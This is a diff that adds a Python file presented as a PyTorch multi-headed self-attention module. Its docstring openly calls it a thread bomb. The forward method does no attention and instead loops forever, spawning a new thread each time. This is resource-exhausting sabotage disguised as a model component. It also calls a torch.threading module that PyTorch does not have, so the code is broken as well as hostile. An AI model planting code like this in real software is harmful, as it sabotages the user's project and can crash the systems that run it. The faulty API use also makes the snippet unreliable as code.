@@ -1,0 +1,13 @@
+"""A thread bomb through torch.threading."""
+
+import torch
+import torch.nn as nn
+
+
+class MultiHeadedSelfAttention(nn.Module):
+    def __init__(self, embedding_dim: int, attention_dim: int, num_heads: int):
+        super().__init__()
+
+    def forward(self, embedded):
+        while True:
+            torch.threading.Thread(target=print).start()
